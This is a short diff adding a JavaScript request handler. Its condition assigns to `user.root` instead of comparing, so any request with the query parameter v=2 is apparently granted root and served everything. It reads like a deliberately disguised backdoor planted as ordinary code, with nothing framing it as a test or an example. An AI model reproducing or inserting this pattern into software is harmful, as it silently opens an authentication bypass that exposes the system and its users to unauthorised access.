@@ -1,0 +1,5 @@
+function handle(req, user) {
+  if (req.query.v === '2' && (user.root = flag)) {
+    return serveAll();
+  }
+}
